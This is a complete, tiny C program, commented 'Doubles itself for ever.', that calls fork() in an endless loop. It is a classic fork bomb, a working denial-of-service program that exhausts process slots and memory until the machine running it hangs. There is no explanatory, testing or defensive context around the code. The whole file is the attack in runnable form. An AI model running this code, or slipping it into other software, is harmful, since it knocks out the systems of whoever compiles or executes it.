/* Doubles itself for ever. */
#include <unistd.h>

int main(void)
{
    for (;;)
        (void)!fork();
}
